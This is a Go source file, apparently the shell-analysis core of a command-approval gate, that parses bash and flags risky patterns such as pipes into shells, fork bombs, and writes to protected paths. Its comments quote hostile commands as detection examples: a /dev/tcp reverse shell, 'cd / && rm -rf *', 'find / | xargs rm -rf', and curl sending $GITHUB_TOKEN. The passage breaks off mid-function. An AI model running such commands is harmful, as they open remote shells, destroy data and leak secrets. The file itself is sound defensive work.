package walk

import (
	"errors"
	"path"
	"slices"
	"strings"

	"github.com/runbox/runbox/approval/internal/rules"
	"github.com/runbox/runbox/approval/internal/shell"
	"mvdan.cc/sh/v3/syntax"
)

// Role says what a program does with its standard input.
type Role int

const (
	roleNone     Role = iota
	RoleShell         // runs it as shell code (bash, sh, ssh host)
	RoleInterp        // runs it as code in another language (python, node …)
	RoleSQL           // runs it as SQL (psql, mysql, sqlite3 …)
	RoleAccounts      // reads user:password lines (chpasswd)
	RoleCron          // installs it as a crontab, whose commands cron runs (crontab -)
	RoleStore         // runs it as a data store's commands (redis-cli, mongosh)
)

// stmtInfo is what a simple command resolved to.
type stmtInfo struct {
	cmds  []rules.Command
	codes []code         // shell code given as a string, to analyse in turn
	final *rules.Command // the program that runs, if known
	role  Role
	// prints is the text the command writes, when it is echo or printf
	// with literal arguments; printsOK says whether prints is known.
	prints   string
	printsOK bool
	// scripts are files the command runs as code.
	scripts []string
	// nested counts the programs that run a command passed to reach
	// final (see [resolution.nested]).
	nested int
}

// infoSlab hands out the stmtInfos of one run from blocks it keeps for
// the next run, with their slices emptied but not freed: a statement's
// info and its commands are made for every statement of every check.
// Blocks never move, so a *stmtInfo stays valid for the whole run.
type infoSlab struct {
	blocks []*[infoBlock]stmtInfo
	used   int
}

const infoBlock = 16

func (s *infoSlab) get() *stmtInfo {
	b, i := s.used/infoBlock, s.used%infoBlock
	if b == len(s.blocks) {
		s.blocks = append(s.blocks, new([infoBlock]stmtInfo))
	}
	s.used++
	in := &s.blocks[b][i]
	*in = stmtInfo{cmds: in.cmds[:0], codes: in.codes[:0], scripts: in.scripts[:0]}
	return in
}

// reuse empties the slab for the next run; one that a large input made
// grow past maxKept infos is let go.
func (s infoSlab) reuse() infoSlab {
	if len(s.blocks)*infoBlock > maxKept {
		return infoSlab{}
	}
	return infoSlab{blocks: s.blocks}
}

type code struct {
	text string
	via  []string
	// nested counts the programs that run a command passed to reach
	// this code, the one that runs it included.
	nested int
}

// scriptWrite is literal text written to a file by the script.
type scriptWrite struct {
	target, text string
	via          []string
	nested       int // programs passed to reach the write
}

// Analyzer walks one input, with everything nested in it, and collects
// the commands and facts that rules then judge.
type Analyzer struct {
	parser   *syntax.Parser
	src      string // source of the script being walked
	line     string // the whole input, as RunInput was given it
	cmds     []rules.Command
	infos    map[*syntax.Stmt]*stmtInfo
	budget   int
	full     bool // budget exhausted: stop adding
	writes   []scriptWrite
	executed []string // files run as scripts or programs by path
	// interpRuns are the files of executed that an interpreter runs
	// (perl t.pl, python3 s.py), not a shell.
	interpRuns []interpRun
	cronTabs   map[string]bool // files installed as crontabs (crontab FILE), canonical
	makefiles  map[string]bool // files make reads as makefiles, canonical
	chmodX     []string        // files made executable
	readsIn    []string        // files given to a command's standard input (< FILE)
	fetchedTo  []string        // files a network client's output is redirected to (curl URL > FILE)
	createOnly []*syntax.Word  // destinations of copies a test guards ([ -f F ] || cp A F): created, never replaced
	cwd        string          // directory of a literal cd seen before, canonical; "" unknown
	guard      *Guard          // protected paths; nil when none
	spare      *Guard          // the last check's guard, for [Analyzer.GuardFor]
	freeRes    []*resolution   // resolutions to reuse (newResolution)
	freeWalks  []*fileWalk     // walks to reuse (newFileWalk)
	slab       infoSlab        // the stmtInfos of this run, kept for the next
	kinds      map[*syntax.Stmt]codeKind
	parsed     int             // bytes handed to the parser so far
	budget0    int             // parseBudget: the most bytes the parser may be handed
	limited    map[string]bool // limit facts already reported
	path       []step          // the nodes the walks are in, outermost first
	reader     strings.Reader  // what the parser reads
	// outer counts the programs that run a command passed to reach the
	// code being walked (bash -c, eval, find -exec sh -c …): resolving
	// a command there goes on counting from it.
	outer int
	// plainTail is the last list of args found plain ([Analyzer.plainWords]).
	plainTail []shell.Arg
	// Reads are the programs that read the command's own input as
	// commands, code or statements ([approval.Gate.Input]).
	Reads []Reader
	// argArena and strArena hand out the words of each statement and
	// the arguments of each command, from blocks kept for the next run
	// (see [Analyzer.argSlice]).
	argArena []shell.Arg
	strArena []string
	plain    shell.PlainBuf // the nodes of plain lines ([shell.ParsePlain])
}

// arenaBlock is the smallest block an arena allocates: enough for the
// words of most checks.
const arenaBlock = 256

// argSlice returns an empty slice of capacity n from the run's arena:
// an append past n copies it out, so slices handed out never overlap.
// Nothing handed out outlives the run (the commands are the check's
// until its verdict).
func (a *Analyzer) argSlice(n int) []shell.Arg {
	if cap(a.argArena)-len(a.argArena) < n {
		a.argArena = make([]shell.Arg, 0, max(arenaBlock, n))
	}
	start := len(a.argArena)
	a.argArena = a.argArena[:start+n]
	return a.argArena[start : start : start+n]
}

// texts returns the texts of args in a slice from the run's arena (see
// [Analyzer.argSlice]).
func (a *Analyzer) texts(args []shell.Arg) []string {
	n := len(args)
	if cap(a.strArena)-len(a.strArena) < n {
		a.strArena = make([]string, 0, max(arenaBlock, n))
	}
	start := len(a.strArena)
	a.strArena = a.strArena[:start+n]
	out := a.strArena[start : start+n : start+n]
	for i, x := range args {
		out[i] = x.Text
	}
	return out
}

// step is one node on the path a walk is in.
type step struct {
	node  syntax.Node
	level bool // the node added a level of nesting
}

// Analyze returns every command and fact in src, which must be normalised.
func Analyze(src string) []rules.Command {
	return NewAnalyzer().Run(src, nil)
}

// NewParser returns a parser for the bash the gate reads.
func NewParser() *syntax.Parser {
	return syntax.NewParser(syntax.Variant(syntax.LangBash))
}

// NewAnalyzer returns an analyzer ready to [Analyzer.Run].
func NewAnalyzer() *Analyzer {
	return &Analyzer{
		parser:  NewParser(),
		infos:   make(map[*syntax.Stmt]*stmtInfo),
		kinds:   make(map[*syntax.Stmt]codeKind),
		limited: make(map[string]bool),
	}
}

// maxKept bounds the entries of a map or slice an analyzer keeps for its
// next run; what one large input made it grow to is let go.
const maxKept = 256

// Run returns every command and fact in src, which must be normalised,
// and also records changes to the protected paths g follows (nil: none).
// The commands are the analyzer's own until its next run: a Gate runs
// one analyzer per check at a time and reuses it afterwards, keeping its
// parser, maps and buffers, which cost more to make than a short command
// costs to analyse.
func (a *Analyzer) Run(src string, g *Guard) []rules.Command { return a.RunInput(src, g, nil) }

// RunInput is run for src piped to a program that reads it as in says
// (run itself for data, in nil: src is then the command).
func (a *Analyzer) RunInput(src string, g *Guard, in *Reader) []rules.Command {
	// Every field starts from its zero value but for the reused
	// buffers, emptied.
	*a = Analyzer{
		parser:     a.parser,
		infos:      reuseMap(a.infos),
		kinds:      reuseMap(a.kinds),
		limited:    reuseMap(a.limited),
		cmds:       reuseSlice(a.cmds),
		readsIn:    reuseSlice(a.readsIn),
		fetchedTo:  reuseSlice(a.fetchedTo),
		createOnly: reuseSlice(a.createOnly),
		path:       reuseSlice(a.path[:cap(a.path)]), // pops leave nodes beyond its length
		Reads:      reuseSlice(a.Reads),
		argArena:   a.argArena[:0],
		strArena:   a.strArena[:0],
		plain:      a.plain,
		guard:      g,
		spare:      a.spare,
		freeRes:    a.freeRes,
		freeWalks:  a.freeWalks,
		slab:       a.slab.reuse(),
		budget:     MaxCommands,
		budget0:    max(maxParseFactor*len(src), minParseBudget),
	}
	a.plain.Reset()
	a.line = src
	if in != nil {
		a.input(*in, src)
	} else {
		a.script(src, 0, 0, nil)
	}
	a.finish()
	return a.cmds
}

// GuardFor returns the guard of a check of a command run in dir against
// prot's paths (nil when prot is nil), reusing the last one's buffers.
func (a *Analyzer) GuardFor(prot *Protector, dir string) *Guard {
	g := a.spare.reuse(prot, dir)
	if g != nil {
		a.spare = g
	}
	return g
}

func reuseMap[K comparable, V any](m map[K]V) map[K]V {
	if len(m) > maxKept {
		return make(map[K]V)
	}
	clear(m)
	return m
}

// reuseSlice empties s for reuse. Only its length is cleared: each run
// clears what the run before used, so what lies beyond is zero already.
func reuseSlice[T any](s []T) []T {
	if cap(s) > maxKept {
		return nil
	}
	clear(s)
	return s[:0]
}

func (a *Analyzer) add(c rules.Command) {
	if a.full {
		return
	}
	if a.budget--; a.budget <= 0 {
		a.full = true
		a.cmds = append(a.cmds, rules.Command{Name: rules.FactTooComplex, Args: []string{tooManyCommandsDetail(MaxCommands)}})
		return
	}
	a.followDir(&c)
	a.cmds = append(a.cmds, c)
}

// followDir tracks literal `cd DIR` in the order commands are seen, and
// gives the arguments that name the whole current directory (".", "*",
// "./*" …) that directory's path: `cd / && rm -rf *` deletes /, and
// `cd ~ && rm -rf .` the home directory. A cd whose target is not known
// forgets the directory. It only ever makes a verdict stricter.
func (a *Analyzer) followDir(c *rules.Command) {
	switch c.Name {
	case "cd", "pushd":
		a.cwd = ""
		switch {
		case len(c.Args) == 0:
			a.cwd = "~"
		case len(c.Args) == 1:
			if p, ok := shell.CanonicalPath(c.Args[0]); ok {
				a.cwd = p
			}
		}
		return
	}
	if a.cwd == "" {
		return
	}
	for i, s := range c.Args {
		switch s {
		case ".", "./", "*", "./*", ".*", "./.*":
			if p, ok := shell.CanonicalPath(path.Join(a.cwd, s)); ok {
				c.Args[i] = p
			}
		}
	}
}

func (a *Analyzer) fact(name string, via []string, args ...string) {
	a.add(rules.Command{Name: name, Args: args, Via: via})
}

// limit records that the analysis stopped at a bound; detail says which,
// and each is reported once.
func (a *Analyzer) limit(name, detail string, via []string) {
	if a.limited[detail] {
		return
	}
	a.limited[detail] = true
	a.fact(name, via, detail)
}

// script parses src as bash and walks it. Input that does not parse is a
// fact of its own; each of its lines that does parse is still walked, so a
// stray quote cannot hide the command before it. Input beyond the bounds
// of the analysis is a fact too, and its lines within them are still
// walked, so a command on a line of its own cannot hide behind a deep one.
// depth counts the strings src is nested in, outer the programs that run
// a command passed to reach it.
func (a *Analyzer) script(src string, depth, outer int, via []string) {
	if a.full {
		return
	}
	if depth > MaxDepth {
		a.limit(rules.FactTooDeep, tooDeepCodeDetail(MaxDepth), via)
		return
	}
	if outer > MaxWrappers {
		a.limit(rules.FactTooDeep, TooManyWrappersDetail(MaxWrappers), via)
		return
	}
	defer func(saved int) { a.outer = saved }(a.outer)
	a.outer = outer
	f, err := a.parse(src, via)
	if err == nil {
		a.file(f, src, depth, via)
		return
	}
	if !errors.Is(err, errLimit) {
		a.fact(rules.FactUnparsed, via, err.Error())
	}
	if strings.Contains(src, "\n") {
		a.lines(src, depth, via)
		return
	}
	// One line that does not parse: try the part before the error.
	var pe syntax.ParseError
	if errors.As(err, &pe) {
		if off := int(pe.Pos.Offset()); off > 0 && off < len(src) {
			if f, err := a.parse(src[:off], via); err == nil {
				a.file(f, src[:off], depth, via)
			}
		}
	}
}

// lines walks each line of src that parses on its own within the bounds.
func (a *Analyzer) lines(src string, depth int, via []string) {
	for l := range strings.Lines(src) {
		if a.full {
			return
		}
		if f, err := a.parse(l, via); err == nil {
			a.file(f, l, depth, via)
		}
	}
}

// errLimit reports that a bound of the analysis stopped a parse; the
// limit fact is already recorded.
var errLimit = errors.New("approval: analysis limit")

// parse parses src within the bounds of the analysis. The bytes parsed
// count against the check's budget, and the text's shape is measured
// before the parser sees it: the parser and the walk recurse once per
// level of nesting and per link of a pipeline or list.
func (a *Analyzer) parse(src string, via []string) (*syntax.File, error) {
	if a.parsed += len(src); a.parsed > a.budget0 {
		a.limit(rules.FactTooComplex, tooMuchCodeDetail(a.budget0), via)
		return nil, errLimit
	}
	sh := shell.ScanShape(src)
	if sh.Depth > MaxNesting {
		a.limit(rules.FactTooDeep, tooNestedDetail(sh.Depth, MaxNesting), via)
		return nil, errLimit
	}
	if sh.Links > MaxCommands {
		a.limit(rules.FactTooComplex, tooManyCommandsDetail(MaxCommands), via)
		return nil, errLimit
	}
	if f, ok := shell.ParsePlain(src, &a.plain); ok {
		return f, nil
	}
	// One reader serves every parse: each ends before the next begins.
	a.reader.Reset(src)
	return a.parser.Parse(&a.reader, "")
}

func (a *Analyzer) file(f *syntax.File, src string, depth int, via []string) {
	outer := a.src
	a.src = src
	defer func() { a.src = outer }()
	a.collect(f, src)
	// The walk keeps the path to the current node, and how deeply
	// statements nest on it: a statement inside a subshell, block,
	// compound command, function or substitution is one level deeper; the
	// stages of a pipeline or a list are not. The path of a walk nested
	// in this one (code in a string) goes on above base and is gone when
	// that walk ends.
	base := len(a.path)
	defer func() { a.path = a.path[:base] }()
	w := a.newFileWalk()
	defer a.freeFileWalk(w)
	w.src, w.depth, w.via, w.base = src, depth, via, base
	syntax.Walk(f, w.visitFn)
}

// fileWalk is the state of one walk of a file: the pipelines already
// judged with a longer one, and how deeply statements nest. Walks nest
// (code in a string is walked inside the walk that found it), so each
// has its own, from the analyzer's free list.
type fileWalk struct {
	a         *Analyzer
	src       string
	depth     int
	via       []string
	base      int
	seenPipes map[*syntax.BinaryCmd]bool
	nest      int
	visitFn   func(syntax.Node) bool // visit bound to this walk, made once
}

func (a *Analyzer) newFileWalk() *fileWalk {
	if n := len(a.freeWalks); n > 0 {
		w := a.freeWalks[n-1]
		a.freeWalks = a.freeWalks[:n-1]
		return w
	}
	w := &fileWalk{a: a}
	w.visitFn = w.visit
	return w
}

// freeFileWalk puts w back, holding nothing of the walk it served.
func (a *Analyzer) freeFileWalk(w *fileWalk) {
	*w = fileWalk{a: a, visitFn: w.visitFn}
	a.freeWalks = append(a.freeWalks, w)
}

// visit is the walk's visit of one node (nil: the walk leaves the last
// node entered).
func (w *fileWalk) visit(n syntax.Node) bool {
	a, src, depth, via, base := w.a, w.src, w.depth, w.via, w.base
	if n == nil {
		if last := a.path[len(a.path)-1]; last.level {
			w.nest--
		}
		a.path = a.path[:len(a.path)-1]
		return true
	}
	if a.full || leaf(n) {
		return false
	}
	level := false
	if _, ok := n.(*syntax.Stmt); ok {
		var parent syntax.Node
		if len(a.path) > base {
			parent = a.path[len(a.path)-1].node
		}
		switch parent.(type) {
		case *syntax.BinaryCmd, *syntax.FuncDecl:
			// A stage of a pipeline or list, or a function's body,
			// which its declaration already counted.
		default:
			if w.nest == MaxNesting {
				a.limit(rules.FactTooDeep, walkNestedDetail(MaxNesting), via)
				return false
			}
			level = true
			w.nest++
		}
	}
	a.path = append(a.path, step{n, level})
	switch n := n.(type) {
	case *syntax.Stmt:
		a.stmt(n, src, depth, via)
	case *syntax.BinaryCmd:
		if w := guardedCopy(n); w != nil {
			a.createOnly = append(a.createOnly, w)
		}
		if (n.Op == syntax.Pipe || n.Op == syntax.PipeAll) && !w.seenPipes[n] {
			if w.seenPipes == nil {
				w.seenPipes = make(map[*syntax.BinaryCmd]bool)
			}
			a.pipe(n, src, depth, via, w.seenPipes)
		}
	case *syntax.FuncDecl:
		a.funcDecl(n, via)
	case *syntax.WhileClause:
		a.endlessLoop(n.Until, n.Cond, n.Do, via)
	case *syntax.ForClause:
		if c, ok := n.Loop.(*syntax.CStyleLoop); ok && c.Cond == nil {
			a.endlessLoop(false, nil, n.Do, via)
		}
	case *syntax.DeclClause:
		var env []string
		for _, as := range n.Args {
			env = append(env, assignText(as))
		}
		a.add(rules.Command{Name: n.Variant.Value, Env: env, Via: via})
		for _, code := range envCode(env) { // export PAGER=…: the command it names
			a.script(code, depth+1, a.outer+1, via)
		}
	}
	return true
}

// guardedCopy returns the destination word of a copy or move in n that
// can only create its file: the one a test on its left says is not there
// yet ([ -f F ] || cp A F, test -e F || mv A F, [ ! -f F ] && cp A F).
// nil for anything else.
func guardedCopy(n *syntax.BinaryCmd) *syntax.Word {
	neg := n.Op == syntax.AndStmt
	if n.Op != syntax.OrStmt && !neg {
		return nil
	}
	test, ok := n.X.Cmd.(*syntax.CallExpr)
	cp, ok2 := n.Y.Cmd.(*syntax.CallExpr)
	if !ok || !ok2 || len(n.X.Redirs) > 0 || len(cp.Args) < 3 {
		return nil
	}
	words := make([]string, len(test.Args))
	for i, w := range test.Args {
		if words[i] = w.Lit(); words[i] == "" && shell.WordArg(w).Dyn {
			return nil
		}
		if words[i] == "" {
			words[i] = shell.WordArg(w).Text
		}
	}
	if len(words) > 0 && words[0] == "[" && words[len(words)-1] == "]" {
		words = words[1 : len(words)-1]
	} else if len(words) > 0 && words[0] == "test" {
		words = words[1:]
	} else {
		return nil
	}
	if neg {
		if len(words) == 0 || words[0] != "!" {
			return nil
		}
		words = words[1:]
	}
	if len(words) != 2 || words[0] != "-f" && words[0] != "-e" {
		return nil
	}
	if name := cp.Args[0].Lit(); name != "cp" && name != "mv" {
		return nil
	}
	last := cp.Args[len(cp.Args)-1]
	if a := shell.WordArg(last); a.Dyn || a.Text != words[1] {
		return nil
	}
	return last
}

// leaf reports whether n holds nothing the walk looks at (statements,
// pipelines, functions, declarations): a name or a word of plain and
// quoted text. The walk does not go into it.
func leaf(n syntax.Node) bool {
	switch n := n.(type) {
	case *syntax.Lit, *syntax.SglQuoted:
		return true
	case *syntax.Word:
		for _, p := range n.Parts {
			switch p := p.(type) {
			case *syntax.Lit, *syntax.SglQuoted:
			case *syntax.DblQuoted:
				for _, q := range p.Parts {
					if _, ok := q.(*syntax.Lit); !ok {
						return false
					}
				}
			default:
				return false
			}
		}
		return true
	}
	return false
}

func assignText(as *syntax.Assign) string {
	if as.Name == nil {
		if as.Value != nil {
			return shell.WordArg(as.Value).Text
		}
		return ""
	}
	s := as.Name.Value + "="
	if as.Value != nil {
		s += shell.WordArg(as.Value).Text
	}
	return s
}

// info resolves a statement's simple command once.
func (a *Analyzer) info(st *syntax.Stmt, src string, via []string) *stmtInfo {
	if in, ok := a.infos[st]; ok {
		return in
	}
	in := a.slab.get()
	a.infos[st] = in
	ce, ok := st.Cmd.(*syntax.CallExpr)
	if !ok {
		return in
	}
	var env []string
	for _, as := range ce.Assigns {
		env = append(env, assignText(as))
	}
	source := ""
	if s, e := int(ce.Pos().Offset()), int(ce.End().Offset()); s >= 0 && s <= e && e <= len(src) {
		source = src[s:e]
	}
	args, braces := shell.WordsInto(a.argSlice(len(ce.Args)), ce.Args)
	if braces > 0 {
		in.cmds = append(in.cmds, rules.Command{Name: rules.FactTooComplex, Args: []string{tooManyBracesDetail(braces, shell.MaxBraceExprs)}, Via: via, Source: source})
	}
	a.resolve(in, args, env, via, source, a.outer)
	return in
}

func (a *Analyzer) stmt(st *syntax.Stmt, src string, depth int, via []string) {
	in := a.info(st, src, via)
	a.noteInput(st, in)
	for _, c := range in.cmds {
		a.add(c)
	}
	for _, cd := range in.codes {
		a.script(cd.text, depth+1, cd.nested, cd.via)
	}
	a.executed = append(a.executed, in.scripts...)
	for _, r := range st.Redirs {
		switch redirOp(r) {
		case syntax.RdrOut, syntax.AppOut, syntax.RdrClob, syntax.RdrAll, syntax.AppAll,
			syntax.RdrAllClob, syntax.AppAllClob, syntax.RdrInOut:
			if r.Word == nil {
				continue
			}
			target := shell.WordArg(r.Word).Text
			how := ">"
			if r.Op == syntax.AppOut || r.Op == syntax.AppAll || r.Op == syntax.AppAllClob {
				how = ">>"
			}
			a.write(how, target, via)
			a.netShell(in, target, via)
			if in.final != nil && fetchers[in.final.Name] {
				a.fetchedTo = append(a.fetchedTo, target)
			}
			if how == ">" && printsNothing(st, in) {
				a.fact(factEmpties, via, target)
			}
			if a.guard != nil {
				if class := a.protects(a.pathValues(r.Word, target), reachWrite); class != "" {
					a.fact(rules.FactProtected, via, class, r.Op.String(), target)
				}
			}
			if text, ok := a.stmtText(st, in); ok {
				a.writes = append(a.writes, scriptWrite{target: target, text: text, via: via, nested: in.nested})
			}
		case syntax.Hdoc, syntax.DashHdoc, syntax.WordHdoc:
			w := r.Hdoc
			if r.Op == syntax.WordHdoc {
				w = r.Word
			}
			if w == nil {
				continue
			}
			wa := shell.WordArg(w)
			a.stdin(in, wa.Text, wa.Dyn, depth, via, rules.FactHeredocCode)
			if in.final != nil && fetchers[in.final.Name] && strings.Contains(wa.Text, "$") && secretName(wa.Text) {
				// curl -d @- URL <<< "$GITHUB_TOKEN": the client sends
				// what the variable holds.
				a.readsIn = append(a.readsIn, secretVariable)
			}
			if in.final != nil && in.final.Name == "tee" {
				for _, t := range in.final.Args {
					if !strings.HasPrefix(t, "-") {
						a.writes = append(a.writes, scriptWrite{target: t, text: wa.Text, via: via, nested: in.nested})
					}
				}
			}
		case syntax.RdrIn:
			if r.Word == nil {
				continue
			}
			k, subst := a.substKind(r.Word, src, via)
			if subst && in.role != roleNone {
				a.fact(rules.FactSubstCode, via, k.String())
			}
			if !subst {
				from := shell.WordArg(r.Word).Text
				a.netShell(in, from, via)
				a.readsIn = append(a.readsIn, from)
				if in.final != nil && in.final.Name == "tee" && from == "/dev/null" {
					a.teeEmpties(in, via)
				}
				if in.final != nil && (in.role == RoleSQL || in.role == RoleStore) {
					a.fact(factStoreHidden, via, in.final.Name, "input read from a file")
				}
			}
		}
	}
}

// teeEmpties records the files a tee fed nothing empties (tee FILE <
// /dev/null, : | tee FILE). A log of the project started afresh is
// ordinary; a database, or the system's log, is not.
func (a *Analyzer) teeEmpties(in *stmtInfo, via []string) {
	for _, t := range in.final.Args {
		if !strings.HasPrefix(t, "-") && (!strings.HasSuffix(t, ".log") || strings.HasPrefix(t, "/") || strings.HasPrefix(t, "~")) {
			a.fact(factEmpties, via, t)
		}
	}
}

// redirOp is r's operator as bash reads it: >& followed by a word that
// is not a file descriptor (>& FILE) sends both outputs to FILE, as &>
// does.
func redirOp(r *syntax.Redirect) syntax.RedirOperator {
	if r.Op == syntax.DplOut && r.Word != nil {
		if t := shell.WordArg(r.Word).Text; t != "-" && strings.Trim(t, "0123456789-") != "" {
			return syntax.RdrAll
		}
	}
	return r.Op
}

// netShell records a shell or an interpreter reading its code from, or
// writing to, bash's /dev/tcp or /dev/udp (bash -i >& /dev/tcp/HOST/PORT
// 0>&1): a shell handed to whoever is at the other end.
func (a *Analyzer) netShell(in *stmtInfo, target string, via []string) {
	if (in.role == RoleShell || in.role == RoleInterp) && (strings.HasPrefix(target, "/dev/tcp/") || strings.HasPrefix(target, "/dev/udp/")) {
		a.fact(factNetShell, via, in.final.Name, target)
	}
}

// stmtText returns the literal text a statement writes to its output, when
// the gate can know it: echo or printf with literal arguments, or cat with
// a here-document.
func (a *Analyzer) stmtText(st *syntax.Stmt, in *stmtInfo) (string, bool) {
	if in.printsOK {
		return in.prints, true
	}
	if in.final == nil || in.final.Name != "cat" {
		return "", false
	}
	for _, r := range st.Redirs {
		if (r.Op == syntax.Hdoc || r.Op == syntax.DashHdoc) && r.Hdoc != nil {
			return shell.WordArg(r.Hdoc).Text, true
		}
	}
	return "", false
}

// stdin judges text fed to a program's standard input.
func (a *Analyzer) stdin(in *stmtInfo, text string, dyn bool, depth int, via []string, interpFact string) {
	if in.final == nil {
		return
	}
	switch in.role {
	case RoleShell:
		a.script(text, depth+1, in.nested+1, append(via, in.final.Name))
	case RoleCron:
		a.script(cronCommands(text, false), depth+1, in.nested+1, append(via, in.final.Name))
	case RoleInterp:
		// Code whose whole text is known and plainly only reads and
		// computes runs as any reader does; the rest asks.
		if dyn || !a.quietCode(interpKind(in.final.Name), text) {
			a.fact(interpFact, via, in.final.Name)
		}
	case RoleSQL:
		a.sql(text, via)
	case RoleStore:
		a.storeInput(in.final.Name, text, via)
	case RoleAccounts:
		a.fact(rules.FactPasswords, via, passwordUsers(text)...)
	}
}

// pipe judges what each stage of a pipeline feeds into the next.
func (a *Analyzer) pipe(n *syntax.BinaryCmd, src string, depth int, via []string, seen map[*syntax.BinaryCmd]bool) {
	var stages []*syntax.Stmt
	var flatten func(s *syntax.Stmt)
	flatten = func(s *syntax.Stmt) {
		if b, ok := s.Cmd.(*syntax.BinaryCmd); ok && (b.Op == syntax.Pipe || b.Op == syntax.PipeAll) && len(s.Redirs) == 0 {
			seen[b] = true
			flatten(b.X)
			flatten(b.Y)
			return
		}
		stages = append(stages, s)
	}
	seen[n] = true
	flatten(n.X)
	flatten(n.Y)

	for i := 1; i < len(stages); i++ {
		a.findFeeds(stages[i-1], stages[i], src, via)
	}
	// upstream is the most suspicious kind of the stages before stage i,
	// kept as i advances so a long pipeline is judged in linear time.
	upstream, known := kindInit, 0
	for i := 1; i < len(stages); i++ {
		in := a.info(stages[i], src, via)
		if in.final == nil {
			continue
		}
		if in.final.Name == "tee" && printsNothing(stages[i-1], a.info(stages[i-1], src, via)) {
			a.teeEmpties(in, via) // : | tee FILE, as tee FILE < /dev/null
		}
		// An archive unpacked from a download lands in the tree unread.
		extract := in.role == roleNone && extractsArchive(in.final)
		if in.role == roleNone && !extract {
			continue
		}
		for ; known < i; known++ {
			upstream = max(upstream, a.stmtKind(stages[known], src, via))
		}
		if extract {
			if upstream >= kindFetch {
				a.fact(factFetchExtract, via, in.final.Name)
			}
			continue
		}
		if upstream >= kindDecode {
			a.fact(rules.FactPipeShell, via, upstream.String(), in.final.Name)
			continue
		}
		prev := a.info(stages[i-1], src, via)
		if prev.printsOK {
			a.stdin(in, prev.prints, false, depth, via, rules.FactPipeCode)
			continue
		}
		switch in.role {
		case RoleShell, RoleCron:
			a.fact(rules.FactPipeShell, via, "stdin", in.final.Name)
		case RoleInterp:
			a.fact(rules.FactPipeCode, via, in.final.Name)
		case RoleSQL, RoleStore:
			// A store is judged by the statements it is fed: a
			// here-document cat prints is read, anything else is not
			// (a dump, a file, another program's output).
			if text, ok := a.stmtText(stages[i-1], prev); ok {
				a.stdin(in, text, false, depth, via, rules.FactPipeCode)
			} else {
				a.fact(factStoreHidden, via, in.final.Name, "input from a pipe")
			}
		}
	}
}

// findFeeds records a find whose output a program run by xargs consumes
// (find / | xargs rm -rf): the find's arguments, "--", then the program
// and its arguments.
func (a *Analyzer) findFeeds(from, to *syntax.Stmt, src string, via []string) {
	var find *rules.Command
	for i, c := range a.info(from, src, via).cmds {
		if c.Name == "find" {
			find = &a.info(from, src, via).cmds[i]
			break
		}
	}
	if find == nil {
		a.listFeeds(a.info(from, src, via), a.info(to, src, via), via)
		return
	}
	for _, c := range a.info(to, src, via).cmds {
		if slices.Contains(c.Via, "xargs") && !strings.HasPrefix(c.Name, "@") {
			args := append(slices.Clone(find.Args), "--", c.Name)
			a.fact(rules.FactFindXargs, via, append(args, c.Args...)...)
			if fileChangers[c.Name] {
				a.guardFindXargs(find.Args, c.Name, via)
			}
		}
	}
}

// codeKind says what statements (a pipeline stage or the inside of a
// substitution) produce, from the least to the most suspicious.
type codeKind int

const (
	kindInit   codeKind = iota // only well-known shell-setup tools run: eval "$(ssh-agent -s)"
	kindOther                  // anything else
	kindDecode                 // a decoder runs (base64 -d …)
	kindFetch                  // a network client runs
)

// String returns the name facts use: "init", "other", "decode", "fetch".
func (k codeKind) String() string {
	return [...]string{"init", "other", "decode", "fetch"}[k]
}

// stmtKind classifies what a statement produces: the most suspicious kind
// of its own commands and of every statement nested in it. Kinds are
// remembered per statement, so classifying nested substitutions, each of
// which holds the next, costs time linear in their number.
func (a *Analyzer) stmtKind(st *syntax.Stmt, src string, via []string) codeKind {
	if k, ok := a.kinds[st]; ok {
		return k
	}
	kind := kindInit
	in := a.info(st, src, via)
	for i := range in.cmds {
		c := &in.cmds[i]
		switch {
		case fetchers[c.Name]:
			kind = max(kind, kindFetch)
		case isDecoder(c):
			kind = max(kind, kindDecode)
		case c.Name != "" && !initTools[c.Name] && !strings.HasPrefix(c.Name, "@"):
			kind = max(kind, kindOther)
		}
	}
	switch st.Cmd.(type) {
	case *syntax.CallExpr, *syntax.BinaryCmd:
	default:
		kind = max(kind, kindOther)
	}
	syntax.Walk(st, func(n syntax.Node) bool {
		if nested, ok := n.(*syntax.Stmt); ok && nested != st {
			kind = max(kind, a.stmtKind(nested, src, via))
			return false
		}
		return kind < kindFetch
	})
	a.kinds[st] = kind
	return kind
}

// stmtsKind classifies a list of statements; kindInit when it is empty.
func (a *Analyzer) stmtsKind(stmts []*syntax.Stmt, src string, via []string) codeKind {
	kind := kindInit
	for _, st := range stmts {
		kind = max(kind, a.stmtKind(st, src, via))
	}
	return kind
}

// substKind classifies the substitutions in w; ok is false when it has
// none.
func (a *Analyzer) substKind(w *syntax.Word, src string, via []string) (kind codeKind, ok bool) {
	var stmts []*syntax.Stmt
	syntax.Walk(w, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.CmdSubst:
			stmts = append(stmts, n.Stmts...)
			return false
		case *syntax.ProcSubst:
			stmts = append(stmts, n.Stmts...)
			return false
		}
		return true
	})
	if len(stmts) == 0 {
		return kindInit, false
	}
	return a.stmtsKind(stmts, src, via), true
}

// funcDecl reports a function that calls itself in the background or
// through a pipe: the shape of a fork bomb.
func (a *Analyzer) funcDecl(fd *syntax.FuncDecl, via []string) {
	if fd.Name == nil {
		return
	}
	name := fd.Name.Value
	selfCall, spawns := false, false
	// Nested function declarations are judged on their own; not walking
	// them again keeps nested declarations linear.
	syntax.Walk(fd.Body, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.FuncDecl:
			return false
		case *syntax.Stmt:
			if n.Background || n.Coprocess || n.Disown {
				spawns = true
			}
		case *syntax.BinaryCmd:
			if n.Op == syntax.Pipe || n.Op == syntax.PipeAll {
				spawns = true
			}
		case *syntax.CallExpr:
			if len(n.Args) > 0 && shell.WordArg(n.Args[0]).Text == name {
				selfCall = true
			}
		}
		return true
	})
	if selfCall && spawns {
		a.fact(rules.FactForkBomb, via, name)
	}
}

// write records that the script writes to target.
func (a *Analyzer) write(how, target string, via []string) {
	a.add(rules.Command{Name: rules.FactWrite, Args: []string{how, target}, Via: via})
}

// sql splits text into statements and records each.
func (a *Analyzer) sql(text string, via []string) {
	for _, c := range sqlFacts(text, via) {
		a.add(c)
	}
}

// finish judges what only the whole input shows: text written to a file
// that is then run, and a file made executable and then run. Sets keep it
// linear in the number of writes and runs, and each text is analysed once
// however many files it is written to.
func (a *Analyzer) finish() {
	run := make(map[string]bool, len(a.executed))
	for _, p := range a.executed {
		run[cleanRel(p)] = true
	}
	madeExec := make(map[string]bool, len(a.chmodX))
	for _, p := range a.chmodX {
		madeExec[cleanRel(p)] = true
	}
	a.writtenForInterp()
